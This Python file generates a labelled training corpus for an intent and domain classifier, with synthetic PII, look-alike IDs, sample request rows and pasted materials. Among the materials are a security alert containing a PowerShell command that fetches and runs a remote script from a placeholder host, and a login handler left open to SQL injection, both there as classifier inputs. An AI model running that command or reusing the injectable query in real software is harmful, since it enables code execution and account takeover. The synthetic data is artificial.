"""Ninth hand-written TRAIN corpus (writes ``train_diverse9.jsonl``).

Why: on hand-written sets by other authors the intent head lands at 0.84-0.90
and the domain head at 0.78-0.90. The domain errors sit on the *boundaries*:
a tenant asking about a deposit (legal, not finance), a relative asking about
a parent's new tablets (medical), a small-business owner asking about a late
payer (finance), a scam victim (security) -- all in everyday words with no
jargon -- versus general asks that merely *mention* money, health, law or
passwords (an office party budget, a gym playlist, a password-manager review
for a tech blog, the plot of a legal drama).

This corpus was written by an independent author, in the manner of an
acceptance-set author, without running the classifier on it or looking at any
model error. It fills a grid of every intent x every domain (chat is always
general) with at least six single-task rows per cell, carrying the domain by
plain words in about half of them, plus pasted material (emails, logs, code,
contracts, clinical letters, statements), 70 multi-task requests, PII of every
type in varied formats, and hard negatives (order / invoice / ticket ids,
version strings, Luhn-failing 16-digit numbers, IBAN-shaped strings with a
wrong checksum, dates, amounts). It never reads fresh*.jsonl or test.jsonl.

Label guide (consistent with the other sets): domain is whose expert you would
ask -- personal money, tax, insurance cover, prices, budgets, accounting,
markets -> finance; rights, disputes, appeals, contracts, compliance and
regulation, employment law, tenancy -> legal; symptoms, drugs, care, clinical
notes, health records -> medical; accounts, attacks, scams, phishing, malware,
access control, vulnerabilities -> security; an office, social, technical-
but-not-security or creative ask that only mentions such words -> general.
Creative pieces whose job is to carry a domain's message (a hand-washing
slogan, a phishing-awareness poem) take that domain; a story merely *set* in a
courtroom or hospital is general. A task whose own words are neutral takes
the domain of the material it acts on.

Row format, one per line: ``spec [=> clause] [;; spec => clause ...] | text``
where spec is ``[!]intent d cx s [calc|retr|web|code]`` (d in g/f/l/m/s, cx in
l/m/h, s in p/i/c/r; a leading ``!`` marks a hard-negative row: PII-shaped
ids, versions, failing checksums, with no PII). ``{NAME}`` pastes material
(after a blank line) or inserts a marked PII value / an unmarked look-alike;
``\\n`` is a newline. Multi-task rows name each clause, verbatim from the text.
Usage: ``python tests/data/intent/train_diverse9_source.py`` (rewrites the
jsonl, then validates it and prints per-intent / per-domain counts).
"""

# ruff: noqa: E501  (data tables: long literal phrasings read better unwrapped)

from __future__ import annotations

from corpus import (
    DOMAINS,
    HERE,
    INTENTS,
    Placeholders,
    Row,
    Values,
    check_lookalikes,
    line_rows,
    mark,
    pv,
    write_and_check,
)

_v = Values(909009)
_rng = _v.rng
_iban, _bad_iban, _card, _bad16 = _v.iban, _v.bad_iban, _v.card, _v.bad16


# inline PII values (marked so the gold spans are exact)
_PII = {
    "EM1": mark("EMAIL", "dana.whitfield@harrowgate-homes.co.uk"),
    "EM2": mark("EMAIL", "r.oyelaran@quillpay.com"),
    "EM3": mark("EMAIL", "kwame.asante84@gmail.com"),
    "EM4": mark("EMAIL", "accounts@brightside-joinery.co.uk"),
    "EM5": mark("EMAIL", "hr.cases@meridianfoods.com"),
    "EM6": mark("EMAIL", "lucia.ferrer@clinicasol.es"),
    "EM7": mark("EMAIL", "it-helpdesk@pinecrest.edu"),
    "EM8": mark("EMAIL", "TOMAS.NOVAK@SEZNAM.CZ"),
    "EM9": mark("EMAIL", "security-alert@m1crosoft-support.co"),
    "PH1": mark("PHONE", "+44 7911 482306"),
    "PH2": mark("PHONE", "(312) 555-0187"),
    "PH3": mark("PHONE", "+65 8234 5519"),
    "PH4": mark("PHONE", "+353 87 412 9930"),
    "PH5": mark("PHONE", "+81 90-4412-7783"),
    "PH6": mark("PHONE", "+49 171 4429980"),
    "PH7": mark("PHONE", "+1-206-555-0142"),
    "PH8": mark("PHONE", "07823 119402"),
    "PH9": mark("PHONE", "+33 6 12 48 90 33"),
    "PH10": mark("PHONE", "+91 99001 23456"),
    "PH11": mark("PHONE", "0412 773 901"),
    "PH12": mark("PHONE", "+44 7418 362915"),
    "PH13": mark("PHONE", "646.555.0199"),
    "PH14": mark("PHONE", "+420 602 118 447"),
    "IP1": mark("IP_ADDRESS", "91.214.124.77"),
    "IP2": mark("IP_ADDRESS", "2a02:c7f:8e04:1100::3b"),
    "IP3": mark("IP_ADDRESS", "10.8.0.45"),
    "IP4": mark("IP_ADDRESS", "185.234.218.61"),
    "IP5": mark("IP_ADDRESS", "fe80::1c4e:9bff:fe21:7a0d"),
    "IP6": mark("IP_ADDRESS", "192.168.1.254"),
    "IP7": mark("IP_ADDRESS", "2001:db8:ac10:fe01::12"),
    "IP8": mark("IP_ADDRESS", "172.20.14.3"),
    "IP9": mark("IP_ADDRESS", "103.75.190.22"),
    "CARD1": mark("CREDIT_CARD", _card("4", 16, " ")),
    "CARD2": mark("CREDIT_CARD", _card("52", 16, "-")),
    "CARD3": mark("CREDIT_CARD", _card("4", 16, "")),
    "CARD4": mark("CREDIT_CARD", _card("34", 15, " ")),
    "CARD5": mark("CREDIT_CARD", _card("6011", 16, " ")),
    "CARD6": mark("CREDIT_CARD", _card("2297", 16, "-")),
    "CARD7": mark("CREDIT_CARD", _card("37", 15, "")),
    "CARD8": mark("CREDIT_CARD", _card("55", 16, "")),
    "IBAN_DE": mark("IBAN", _iban("DE", True)),
    "IBAN_GB": mark("IBAN", _iban("GB", False)),
    "IBAN_FR": mark("IBAN", _iban("FR", True)),
    "IBAN_NL": mark("IBAN", _iban("NL", False)),
    "IBAN_ES": mark("IBAN", _iban("ES", True)),
    "IBAN_IT": mark("IBAN", _iban("IT", False)),
    "IBAN_BE": mark("IBAN", _iban("BE", True)),
    "IBAN_IE": mark("IBAN", _iban("IE", False)),
    "IBAN_AT": mark("IBAN", _iban("AT", True)),
    "IBAN_CH": mark("IBAN", _iban("CH", True)),
    "IBAN_PL": mark("IBAN", _iban("PL", False)),
    "IBAN_SE": mark("IBAN", _iban("SE", True)),
    "IBAN_NO": mark("IBAN", _iban("NO", False)),
    "IBAN_LU": mark("IBAN", _iban("LU", True)),
    "SSN1": mark("US_SSN", pv.ssn(_rng)),
    "SSN2": mark("US_SSN", pv.ssn(_rng)),
    "SSN3": mark("US_SSN", pv.ssn(_rng)),
    "SSN4": mark("US_SSN", pv.ssn(_rng)),
    "NRIC1": mark("SG_NRIC", pv.nric(_rng)),
    "NRIC2": mark("SG_NRIC", pv.nric(_rng)),
    "NRIC3": mark("SG_NRIC", pv.nric(_rng)),
    "NRIC4": mark("SG_NRIC", pv.nric(_rng)),
    "P1": mark("PERSON", "Kwame Asante"),
    "P2": mark("PERSON", "Graham Pettifer"),
    "P3": mark("PERSON", "Harold Finch-Bagley"),
    "P4": mark("PERSON", "Ruth Finch-Bagley"),
    "P5": mark("PERSON", "Lucia Ferrer"),
    "P6": mark("PERSON", "Daniela Kovač"),
    "P7": mark("PERSON", "Tyrone Becker"),
    "P8": mark("PERSON", "Adaeze Okonkwo"),
    "P9": mark("PERSON", "Margaret Doyle"),
    "P10": mark("PERSON", "Ivy Marchetti"),
    "P11": mark("PERSON", "Tomas Novak"),
    "P12": mark("PERSON", "Dana Whitfield"),
    "P13": mark("PERSON", "Rasheed Oyelaran"),
    "P14": mark("PERSON", "Tan Mei Ling"),
    "P15": mark("PERSON", "Benedikt Sauer"),
    "P16": mark("PERSON", "Yuki Hamasaki"),
    "P17": mark("PERSON", "Owen Pritchard"),
    "P18": mark("PERSON", "Anjali Deshpande"),
}

# unmarked look-alikes for hard-negative rows (fail their checksums)
_HN = {
    "BAD16A": _bad16(" "),
    "BAD16B": _bad16("-"),
    "BAD16C": _bad16(""),
    "BAD16D": _bad16(" "),
    "BADIBAN1": _bad_iban("DE", True),
    "BADIBAN2": _bad_iban("FR", False),
    "BADIBAN3": _bad_iban("GB", True),
    "BADIBAN4": _bad_iban("ES", False),
    "BADNRIC1": pv.bad_nric(_rng),
    "BAD16E": _bad16("-"),
    "BADIBAN5": _bad_iban("IT", True),
}

# pasted material: name -> text (PII inside is marked)
_MAT = {
    "TENANCY": "ASSURED SHORTHOLD TENANCY - Flat 2, 14 Alder Row\nLandlord: {P2}   Tenant: {P1}\n1. Term: 12 months from 1 September 2024.\n2. Rent: 1,150 per month, payable in advance on the 1st.\n3. Deposit: 1,325, protected in a government-approved scheme within 30 days.\n4. The Tenant shall not sublet or keep pets without written consent, not to be unreasonably withheld.\n5. Either party may end the tenancy after month 6 by giving two months' written notice.\n6. The Landlord shall keep the structure, boiler and plumbing in repair.\n7. Professional cleaning is required at the end of the tenancy; the cost may be deducted from the deposit.",
    "DISCHARGE": "Discharge summary - {P3}, 81\nAdmitted 3 days with a chest infection and low sodium (Na 126). Treated with IV then oral co-amoxiclav; fluids restricted to 1.5 L/day. Sodium now 133.\nSTOPPED: bendroflumethiazide (likely cause of the low sodium).\nNEW: co-amoxiclav 625 mg three times a day for 2 more days; lansoprazole 15 mg once daily.\nCONTINUE: apixaban 5 mg twice daily; atorvastatin 20 mg at night.\nFollow-up: GP blood test for sodium in 1 week; chest X-ray in 6 weeks.\nDaughter {P4} (mob {PH8}) is aware and will collect the prescriptions.",
    "AUTHLOG": "Mar 02 03:14:55 vpn-gw01 auth: FAIL user=j.moreno src={IP1} reason=bad_password\nMar 02 03:14:58 vpn-gw01 auth: FAIL user=j.moreno src={IP1} reason=bad_password\nMar 02 03:15:02 vpn-gw01 auth: FAIL user=a.kowalski src={IP1} reason=bad_password\nMar 02 03:15:40 vpn-gw01 auth: OK user=j.moreno src={IP2} mfa=push_approved\nMar 02 03:16:12 vpn-gw01 session: user=j.moreno assigned={IP3}",
    "PHISH": "From: Microsoft 365 Team <{EM9}>\nSubject: Action required - mailbox storage full\n\nYour mailbox is 99% full and incoming messages will be deleted in 24 hours. Click below to verify your account and upgrade storage free of charge.\n[ Verify now ] -> hxxps://login-m365-verify[.]top/auth\n\nMicrosoft Corporation, Redmond WA",
    "STATEMENT": "Account holder: {P5}   IBAN {IBAN_ES}\n02/05 CARD PAYMENT   MERCADONA VALENCIA   -54.20\n03/05 DIRECT DEBIT   IBERDROLA            -71.90\n06/05 TRANSFER IN    NOMINA ACME SL     +2,140.00\n09/05 CARD PAYMENT   AMAZON EU           -129.99\n11/05 ATM            CAIXABANK           -200.00\n14/05 DIRECT DEBIT   GIMNASIO FIT         -34.00\n20/05 TRANSFER OUT   ALQUILER MAYO       -780.00",
    "INVOICE": "INVOICE No. 2024-0457        Date: 12 March 2024\nFrom: Brightside Joinery Ltd ({EM4})\nTo: Hollis & Dray Architects\nFitted shelving, 3 rooms ........ 2,850.00\nMaterials ....................... 1,120.00\nSubtotal 3,970.00   VAT 20% 794.00   TOTAL 4,764.00\nPayment within 30 days to {IBAN_GB}. Late payments incur interest at 8% above base rate.",
    "JSBUG": "```js\nasync function loadAll(ids) {\n  const results = [];\n  ids.forEach(async (id) => {\n    const res = await fetch(`/api/items/${id}`);\n    results.push(await res.json());\n  });\n  return results; // always empty?!\n}\n```",
    "SQLI": '```python\n@app.route("/login", methods=["POST"])\ndef login():\n    user = request.form["username"]\n    pw = request.form["password"]\n    row = db.execute(f"SELECT id FROM users WHERE name = \'{user}\' AND password = \'{pw}\'").fetchone()\n    if row:\n        session["uid"] = row[0]\n        return redirect("/home")\n    return "invalid", 401\n```',
    "OFFSITE": "Offsite planning - notes from Tuesday\n- Date locked: Thu 19 Sept, whole team (23 people)\n- Budget: 40 per head for the day incl. lunch; drinks afterwards on the company up to 300 total\n- Venue shortlist: the canal boat (fits 25, no wifi) or the Hatch loft (projector, 10 min from the office)\n- Morning: roadmap review; afternoon: cooking class or treasure hunt, vote closes Friday\n- Still need: someone to book, someone to collect dietary needs, someone to write the agenda\n- Open question: do we invite the two contractors?",
    "PILOT": "COLD OPEN. Night. An empty courtroom. A young public defender sits alone at the defence table rereading a file while a janitor mops around her.\nJANITOR: You know they already decided, right?\nDEFENDER: Then they'll have to undecide.\nShe finds a bus receipt stapled to the back of the evidence log, dated the night her client was supposedly across town.\nSMASH CUT TO: her apartment, 3 a.m., walls covered in timelines. Her phone buzzes. Unknown number.\nVOICE: Stop digging, counsellor.",
    "NDA": "4. Confidential Information shall not include information that (a) is or becomes publicly available other than through a breach of this Agreement; (b) was lawfully known to the Recipient before disclosure; or (c) is independently developed without use of the Discloser's information.\n5. The Recipient's obligations survive for three (3) years after termination, save for trade secrets, which shall be protected for as long as they remain trade secrets.\n6. On request, the Recipient shall return or destroy all Confidential Information and certify the destruction in writing within fourteen (14) days.",
    "SETTLE": "SETTLEMENT AGREEMENT (draft v2) - Meridian Foods Ltd and {P6}\n1. The Company will pay 14,500 as compensation for loss of employment.\n2. The Employee's last day will be 31 May; garden leave from 1 May.\n3. The Company will give an agreed reference in the form at Schedule 2.\n4. The Employee waives all claims, including unfair dismissal and discrimination.\n5. Mutual non-disparagement; nothing stops the Employee making a protected disclosure.\n6. The Company contributes up to 500 + VAT towards independent legal advice.",
    "PENTEST": "External pentest - key findings (March)\nH-1 Critical: admin panel at /manage exposed to the internet, default credentials accepted.\nH-2 High: outdated OpenSSL on the mail gateway (CVE-2022-3602).\nM-1 Medium: no rate limiting on the password reset endpoint; email enumeration possible.\nM-2 Medium: TLS 1.0 still enabled on the legacy portal.\nL-1 Low: verbose server banners reveal version numbers.\nRetest recommended within 30 days of fixes.",
    "SCAMTEXT": "[Mon 10:42] Mum it's me, I dropped my phone in the sink, this is my new number. Can you save it?\n[Mon 10:44] Are you free? I need to pay a bill today and my banking app won't work on the new phone\n[Mon 10:45] It's 850, I'll pay you back tomorrow I promise. Can you send it to this account, it's my friend's: sort code 20-44-91, acc 53118027\n[Mon 10:47] please mum it's urgent they'll charge me a late fee\n(messages came from {PH12})",
    "GPLETTER": "Re: {P8}, DOB 14/07/1958\nThank you for seeing this lady, who has had three episodes of painless visible blood in her urine over the last month. She is an ex-smoker (30 pack-years). Urine culture negative. eGFR 68. Current medication: ramipril 5 mg once daily, metformin 500 mg twice daily. I would be grateful for urgent assessment under the two-week-wait pathway.\nRiverside Surgery",
    "BLOODS": "FULL BLOOD COUNT / U&E - patient {P9}\nHaemoglobin 98 g/L (115-165) LOW\nMCV 74 fL (80-100) LOW\nFerritin 8 ug/L (15-300) LOW\nWhite cells 6.2 (4.0-11.0)\nPlatelets 410 (150-400) HIGH\nSodium 139 (133-146)\nPotassium 4.4 (3.5-5.3)\neGFR 72",
    "CONTRACT": "MASTER SERVICES AGREEMENT\nMade on 1 July 2024 between Northwind Analytics Ltd ('Supplier') and Halden Retail plc ('Customer').\n2.1 Term: 24 months, renewing automatically for 12-month periods unless either party gives 90 days' written notice.\n4.3 Fees: 18,000 per month, invoiced monthly in arrears, payable within 45 days.\n7.2 Service credits: 5% of the monthly fee for each full 0.1% below 99.9% availability, capped at 25%.\n11.1 Each party's liability is capped at the fees paid in the 12 months before the claim.\n14. Governing law: England and Wales; the courts of London have exclusive jurisdiction.",
    "BUILDLOG": "[12:01:14] > Task :app:compileKotlin\n[12:01:52] e: HomeScreen.kt:88:17 Unresolved reference: rememberPagerState\n[12:01:52] e: HomeScreen.kt:104:5 Type mismatch: inferred type is String? but String was expected\n[12:01:53] w: Settings.kt:12:1 'onActivityResult' is deprecated\n[12:01:58] FAILURE: Build failed with an exception.\n[12:01:58] BUILD FAILED in 44s",
    "PAYSLIP": "EARNINGS STATEMENT          Pay date 03/15/2024\nEmployee: {P7}      SSN: {SSN1}\nRegular   80.00 hrs @ 31.25 ........ 2,500.00\nOvertime   6.00 hrs @ 46.88 .......... 281.28\nGross ............................. 2,781.28\nFederal income tax .................. -312.40\nSocial Security ..................... -172.44\nMedicare ............................. -40.33\nState tax (IL) ...................... -137.67\n401(k) 5% ........................... -139.06\nNet pay ........................... 1,979.38",
    "RENEWAL": "Your home insurance renewal - what's changed\nPremium: 412.60 (last year 338.10)\nBuildings excess: now 500 (was 250)\nAccidental damage: no longer included - optional add-on at 46 a year\nHome emergency cover: included\nNo-claims discount: 5 years applied\nIf you do nothing, the policy renews automatically on 1 June.",
    "Q2": "Q2 numbers (unaudited): revenue 1.84m (+9% QoQ), gross margin 61% (Q1 58%), opex 1.02m incl. a one-off 85k office fit-out, EBITDA 102k, cash at quarter end 2.3m, DSO up from 41 to 52 days because two enterprise customers paid late. Headcount 47 (+3).",
    "CAREHOME": "Incident report - Rosewood Care Home\nResident: {P10} (Room 12)   Date: 08/04, 02:30\nFound on the floor beside her bed by the night carer. Said she was trying to reach the toilet. Small skin tear on the left forearm, dressed. No head strike reported; neuro obs every 30 min for 4 hours, all normal. GP informed 09:00; son informed by phone 09:15.\nActions: sensor mat in place, commode by the bed at night, review of evening fluids and her sleeping tablet (zopiclone).",
    "THREAD": "#office-social\nA: ok so who's doing the playlist for the lunchtime gym class\nR: not me after the ABBA incident\nA: fair. vote: 90s dance or rock anthems?\nJ: 90s dance obviously\nS: rock, I need angry music to survive burpees\nJ: compromise - first half dance, second half rock?\nA: sold, J you're DJ. also the Friday drinks kitty is at 62, chip in 5 if you came last week pls",
    "ALERT": '{"rule": "Suspicious PowerShell download cradle", "severity": "high", "host": "LAP-MKT-0193", "user": "s.ng", "cmd": "powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString(\'http://cdn-update-check[.]xyz/a.ps1\')", "remote_ip": "{IP4}", "parent": "OUTLOOK.EXE", "time": "2024-06-11T14:22:09Z"}',
    "ACCESS": "user,role,last_login,mfa\n{EM7},Global Admin,2024-05-30,yes\ncontractor7,Global Admin,2023-11-02,no\nsvc_backup,Backup Operator,2024-06-01,n/a\nm.kaur,Billing Reader,2024-05-12,yes\nold.intern,Exchange Admin,2023-08-19,no",
    "PMREVIEW": "Draft for the blog: I spent a month with three password managers so you don't have to. Vaultly is the prettiest and the browser extension is fast, but the family plan costs double the others. KeyNest looks like it was designed in 2009 and autofill fails on about one site in ten, yet it's the only one with a proper offline mode. Passbolt-ish newcomer Lockr sits in the middle: clean, cheap, and the import from Chrome took 40 seconds. If I had to pick one for my parents, I'd go with Lockr.",
    "LEASECHAT": "Hi, it's your landlord. The inspection went fine but I'm keeping 400 from your deposit for the carpet in the bedroom and 120 for the oven clean. The carpet was new when you moved in. Let me know your bank details for the rest. Thanks",
    "HRMAIL": "From: line manager\nHi, as discussed, from next month your shift will move to 10pm-6am permanently because of the new contract with the distribution centre. Your hourly rate stays the same. Please sign the attached variation and return it by Friday. If you don't sign we will have to assume you don't want to continue in the role.",
    "MEDLIST": "Mum's tablets (from the blister pack label):\n- donepezil 10 mg at night\n- amlodipine 5 mg morning\n- sertraline 50 mg morning\n- NEW from last Tuesday: oxybutynin 5 mg twice a day (for bladder)\n- paracetamol 1 g up to four times a day if needed",
    "AUP": "Acceptable use (extract): Company laptops are for business use; reasonable personal use is allowed. Do not install software that isn't in the self-service portal. Do not forward work email to personal accounts. Lock your screen when you step away. Report lost devices to the service desk within 1 hour. USB storage is blocked by default; request an exception via the portal.",
    "TICKETS_G": "#1 'Export to PDF stopped working after the update'\n#2 'Could you add a dark mode?'\n#3 'Search returns nothing for names with accents'\n#4 'Let us pin favourite reports to the top'\n#5 'Calendar shows meetings an hour late since the clocks changed'",
    "WARDFB": "Ward 9 feedback, June:\n- 'Food was cold every single day.'\n- 'The healthcare assistant on nights sat with me when I couldn't sleep - I won't forget that.'\n- 'Nobody explained why my operation was cancelled twice.'\n- 'Clean, calm, and the pharmacist actually explained my new tablets.'\n- 'My husband was sent home with someone else's discharge letter.'",
    "RETRO9": "Retro - mobile release 3.8\nWent well: beta testers caught the sync bug early; design and dev finally in the same standup.\nDidn't: App Store review rejected us twice (missing privacy label, then a crash on iPad); release slipped 9 days; marketing had already announced the date.\nUnclear: who owns store submissions? who signs off the release notes?",
    "REVIEW_APP": "1 star. The workout plans are actually great and the coach videos are motivating, but the app crashes EVERY time I try to log a run longer than 10k. Support replied after 6 days with a copy-paste answer. Cancelling my subscription.",
}

GENERAL = r"""
reasoning l h p | Long one, sorry. I've worked as a warehouse picker for the same agency for almost three years, always placed at the same distribution centre, same shifts, same supervisor, and the centre's own staff do exactly the job I do. Last month the agency told me my hourly rate is dropping from 12.40 to 11.60 because the 'client contract changed', and in the same week two of us who'd asked about holiday pay were told there were 'no shifts available' for a fortnight. I've never had a written contract from the centre itself, only the agency's terms, which say I'm a 'worker' and that they can end an assignment at any time. My payslips show holiday pay rolled into the hourly rate but it's never been clear how much. I don't want to lose the job - the hours suit my kids' school - but I also don't want to be pushed around. Can you set out where I stand on the pay cut, the holiday pay and the missing shifts, what I could realistically do about each (talk to the agency, a union, a formal grievance, something else), and the risks of each option, in an order that makes sense for someone who needs the income?
reasoning m h c | My mum is 79 and lives alone about an hour from me. Since a fall in the garden in spring she's lost confidence, barely goes out, and has lost maybe 6 kg. Her GP changed her blood pressure tablets twice this year and she's now on amlodipine, bisoprolol and a water tablet, plus something for her bones. She says she feels dizzy in the mornings and has stopped cooking proper meals because 'it's only me'. She's still sharp mentally - does the crossword every day - and absolutely refuses to talk about a care home. My brother thinks we should just get carers in twice a day; I'm not sure she'd accept strangers, and I wonder whether the tablets are part of the problem. What are the medical things worth raising with her GP, what kinds of help exist between 'nothing' and 'care home', and how would you weigh them up for someone like her? I want to go into the conversation with her and the GP with a plan rather than panicking.
draft g h i | We're moving 140 people from two floors at Canal Street to one floor at the new Harbour building over the weekend of 12-13 October, and I need the full staff communication pack: a first announcement email (why we're moving, dates, what changes - hot desking with 110 desks booked through the app, lockers instead of pedestals, the bigger kitchen, bike storage), a week-before reminder with the packing checklist (crates delivered Wednesday, label everything with your name and new zone, clear personal items by Thursday 5pm, IT will move monitors and docks but not personal chargers), and a Monday-morning welcome note with the floor map link, where to get a locker key, and who to contact if something is missing. Keep the tone upbeat but honest about the desk squeeze, and flag the office party budget we've set aside for a housewarming on the Friday after.
summarize g l i | can you boil this down to 3 bullets for the people who missed the meeting{OFFSITE}
summarize g l p | Summarise the plot of this pilot in two sentences for the pitch deck.{PILOT}
summarize g l i | recap this thread in one line, I've been in meetings all morning{THREAD}
summarize g l p | tl;dr of my draft, I want to use it as the meta description{PMREVIEW}
summarize g l p | Shorten for the all-hands slide: 'The office move is now confirmed for the weekend of 12 October. Desks will be packed by facilities on the Friday afternoon, so please clear personal items by Thursday. The new building has 20 fewer desks, so we are moving to booking through the app. Parking stays the same.'
summarize g l p | summarise this review of my bakery's app in a sentence: 'Love the loyalty stamps but ordering ahead is clunky, it forgot my order twice and the pickup times are always wrong.'
summarize g l p | Give me the gist of the build failure in plain words{BUILDLOG}
draft g l p | Email to the team: the party budget this year is 25 a head, venue ideas by Friday please, and we need a volunteer to handle RSVPs.
draft g l p | out of office message, back on the 14th, urgent stuff to the shared inbox
draft g l p | Write a friendly note for the kitchen fridge asking people to label their lunch and clear it out on Fridays.
draft g l p | Invite for the charity 10k: sponsorship money goes to the local hospice, meet at reception 8:30 Sunday, running club t-shirts provided.
draft g l p | Write the intro paragraph for a blog post comparing three password managers - friendly, not salesy, ~80 words.
draft g l p | rewrite this so it's professional please: 'hey guys the printer on 3 is broke AGAIN, dont use it, IT know'
draft g l p | write a linkedin post announcing our new office dog policy (dogs Tuesdays only, must be chipped & vaccinated)
creative g l p | Plot outline for an episode of a legal drama where the junior lawyer realises her mentor forged a will. Three acts.
creative g l p | name my spotify playlist for leg day and suggest 10 songs, high energy
creative g l p | limerick for a retirement card - he's been our accountant for 31 years and never once lost a receipt
creative g l p | A short poem to cheer up my aunt who's halfway through chemo. Warm, not soppy.
creative g l p | Write a satirical 'terms and conditions' for borrowing my stapler.
creative g l p | 6 team names for the office pub quiz, we're the finance floor but make them not about money
creative g l p | horror microfiction, 100 words, the villain is a smart fridge that knows your password
reasoning g m p | We have 600 for the team social, 14 people. Bowling with pizza or an escape room with drinks after - which would people actually enjoy more, and why?
reasoning g m p | Should I learn Rust or Go next? I'm a backend dev doing mostly Python APIs.
reasoning g m i | Our standup keeps running to 40 minutes for a team of 9. What's going wrong and how would you fix it?
reasoning g m p | train or plane, London to Edinburgh for a two-day conference? weigh up time door to door, cost and being able to work on the way
reasoning g m p | Our website's only slow on Monday mornings. No errors, just slow. What are the likely causes, most probable first?
reasoning g m i | 12-person team: stay on Trello or move to Jira? We do two-week sprints and the PMs hate custom fields.
reasoning g m p | For a gym playlist at 140+ bpm, is it better to use one long mix or shuffle separate tracks? Think about how spin instructors actually run a class.
math g l p calc | 14 of us, 600 for the party, venue is 380. How much a head is left for food?
math g l p calc | I ran 5k in 27:30. What's my pace per km, and what time would that pace give me for 10k?
math g l p calc | 72 Fahrenheit in Celsius?
math g l p calc | room is 4.2 m by 3.6 m, flooring comes in packs of 2.2 m². how many packs if I add 10% for waste
math g l p calc | Meeting from 9:40 to 11:15 with 8 people - how many person-hours is that?
math g l p calc | average of 84, 91, 77, 88 and 95?
math g l p calc | 380 km in 3 h 20 min — average speed?
code g l p | Excel formula to pull the first name out of a cell like 'Nguyen, Thi Lan'
code g l p | python script that renames every jpg in a folder to the date the photo was taken
code g l p | Why is this always returning an empty array? Fix it.{JSBUG}
code g l p | SQL: top 5 products by units sold last month, from order_lines(product_id, qty, created_at)
code g l p | bash one-liner to list files over 1GB under /data, biggest first
code g l p | what does this regex match? ^[A-Z]{2}-\d{4}(?:-[a-z]+)?$
code g l p code | Run this and tell me what it prints: print(sorted({3: 'c', 1: 'a', 2: 'b'}.items(), reverse=True)[0])
classify g l p | Sort these comments into facilities / IT / catering: 'the lift is stuck again', 'wifi drops in room 4', 'more veggie options please', 'monitor flickers', 'radiator in the corner is freezing'
classify g l p | Label each subject line urgent, can wait or FYI: 'Server room door propped open', 'Lunch & learn moved to Thursday', 'Client deck due in 1 hour', 'New coffee beans!'
classify g l p | tomato, cucumber, carrot, bell pepper, potato: fruit or vegetable, botanically speaking?
classify g l p | Group these team-building ideas into indoor and outdoor: kayaking, board games, escape room, orienteering, pottery, five-a-side.
classify g l p | For each piece of feedback say bug or feature request.{TICKETS_G}
classify g l p | Which of these books are fiction and which non-fiction: Sapiens, The Road, Educated, Circe, Atomic Habits
sentiment g l p | Is my neighbour's note passive-aggressive or am I overreading it? 'Some of us have to get up early for work. Just saying.'
sentiment g l p | tone check before I send this to my boss: 'As per my last email, the figures were attached. Let me know if you still can't find them.'
sentiment g l p | what's the overall mood of these canteen comments - 'new menu is great', 'portions smaller, same price', 'finally decent coffee', 'queue is insane at 12:30'
sentiment g l p | Our fitness app got this review. How angry is the person, 1 to 5?{REVIEW_APP}
sentiment g l p | Restaurant review for my friend's place: 'Service was slow but honestly the risotto made up for it.' Positive or negative overall?
sentiment g l i | How does the team seem to feel about the offsite plans?{THREAD}
extract g l i | pull out the owners/volunteers still needed and the deadlines{OFFSITE}
extract g l p | List every date and city in this itinerary: 'Fly out Mon 3 June to Lisbon, train to Porto Wed 5th, Porto to Madrid by bus Sat 8th, home Tue 11th.'
extract g l p | Extract the file names and line numbers of the errors only{BUILDLOG}
extract g l p | Give me title and year as JSON: 'Kindred (1979); The Remains of the Day, first published 1989; Piranesi - 2020 hardback'
extract g l p | Which products and dimensions are in this? 'Oak desk 140x70 cm; Linen blind 90 x 160cm; Bookshelf (5 shelves) 80×30×180 cm'
extract g l c | make a table of names and dietary needs from the RSVPs: '{P17} - veggie', '{P16} - no shellfish', '{P18} - none, bringing a +1'
translate g l p | Polish please: 'The lift is out of order, please use the stairs by reception.'
translate g l p | how do you say 'thanks for a lovely evening' in Japanese, casual
translate g l p | What's 'Schweinshaxe mit Knödeln' on an English menu?
translate g l p | Spanish version of our party invite: 'Join us on Friday at 6pm on the rooftop for drinks and snacks!'
translate g l p | into Korean: 'The gym in the basement opens at 6am on weekdays.'
translate g l p | translate to English: 'Je serai en retard de dix minutes, commencez sans moi.'
qa g l p | how does a heat pump heat a house when it's cold outside?
qa g l p | What's the actual difference between RAM and storage?
qa g l p | why do actors say "break a leg"
qa g l p | what does HDMI ARC do
qa g l p | When was the Eiffel Tower finished?
qa g l p | how long should a blog post be for SEO these days?
qa g l p | Why does the office printer always jam on recycled paper?
"""

FINANCE = r"""
summarize f l p | Summarise what's changed in my renewal, plainly.{RENEWAL}
summarize f l i | Q2 numbers into three bullets for the team newsletter{Q2}
summarize f l p | My bank sent this - what's it saying in two lines? 'From 1 August the interest rate on your arranged overdraft will change from 19.9% EAR to 22.9% EAR. Your first 250 remains interest-free. You don't need to do anything, but you can switch to a different account at any time.'
summarize f l p | Shorten our accountant's year-end email for my business partner: 'We'll need all sales and purchase invoices by 30 April, bank statements for every account including the PayPal one, the mileage log, and a list of any equipment you bought over 500. Your corporation tax is due nine months and a day after the year end, and the return twelve months after. We'd also suggest a quick call about paying yourselves dividends rather than salary next year.'
summarize f l r | what did I actually spend money on this month, in a few lines{STATEMENT}
summarize f l p | summary of the fund update for my mum: 'The fund returned 4.2% over the quarter versus 3.8% for the benchmark, helped by holdings in European banks. We reduced exposure to US technology after strong gains. The ongoing charge remains 0.85%.'
draft f l p | I run a small cleaning company. Write a firm but friendly email to a client whose invoice is 45 days overdue.
draft f l p | draft a letter to the tax office asking to pay my self-assessment bill in six instalments, I'm a freelancer and work dried up in spring
draft f l p | Message to my car insurer asking to add my 19-year-old as a named driver from next Monday.
draft f l i | Note to all staff: expense claims must be in by the 25th or they roll over to next month's pay.
draft f l p | Write the notice to my customers that my dog-walking prices go up from 12 to 14 a walk from March, and why.
draft f l p | write to the bank asking them to refund the 35 unarranged overdraft fee, first time in 6 years
draft f l p | Budget request memo: two extra laptops for the new starters, 1,100 each, needed before the 1st.
creative f l p | slogan for our credit union's savings drive for teenagers
creative f l p | A little rhyme to help my 7-year-old get why we save part of her pocket money.
creative f l p | poem about the horror of tax season, for the accountancy firm's newsletter
creative f l p | Kids' story, 300 words: a piggy bank that discovers interest.
creative f l p | tagline ideas for a no-fee business current account for market traders
creative f l p | Write a mock-heroic ode to the company expense policy.
reasoning f m p | I have a bakery. Lease a new oven at 180 a month for 4 years or buy it outright for 7,500? I've got the cash but it's most of my buffer.
